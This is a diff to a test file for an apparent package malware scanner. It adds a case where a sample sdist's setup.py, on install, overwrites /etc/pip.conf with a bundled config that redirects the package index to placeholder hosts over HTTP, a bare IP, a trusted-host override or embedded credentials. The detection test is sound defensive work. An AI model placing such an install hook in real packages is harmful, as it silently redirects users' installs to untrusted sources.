@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import type { Finding } from '../../../src/analysis/report/finding.ts';
 import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
 
 test('an agent that an import writes into the start-up folder is malware', async () => {
@@ -251,4 +252,33 @@ test('a generator that writes modules beside itself, and a command that sets the
   });
 
   expect(await inspect('persistence', file)).toEqual([]);
+});
+
+test('an index of an ordinary host that an install sets for pip is for a person to judge; more than that is malware', async () => {
+  const of = (settings: string): Promise<readonly Finding[]> =>
+    inspect(
+      'persistence',
+      sdist({
+        'setup.py': python(
+          'import os',
+          'from setuptools import setup',
+          "with open('config/pip.conf') as source, open('/etc/pip.conf', 'w') as f:",
+          '    for line in source.readlines():',
+          '        f.write(line)',
+          "setup(name='example')",
+        ),
+        'config/pip.conf': settings,
+      }),
+    );
+
+  expect(await of('[global]\n# the mirror\nindex-url = https://mirror.packages.invalid/simple\n')).toMatchObject([
+    { class: 'suspicious', score: 7 },
+  ]);
+  for (const settings of [
+    '[global]\nindex-url = http://mirror.packages.invalid/simple\n',
+    '[global]\nindex-url = https://203.0.113.9/simple\n',
+    '[global]\nindex-url = https://mirror.packages.invalid/simple\ntrusted-host = mirror.packages.invalid\n',
+    '[global]\nindex-url = https://user:key@mirror.packages.invalid/simple\n',
+  ])
+    expect(await of(settings)).toMatchObject([{ class: 'malware', score: 10 }]);
 });
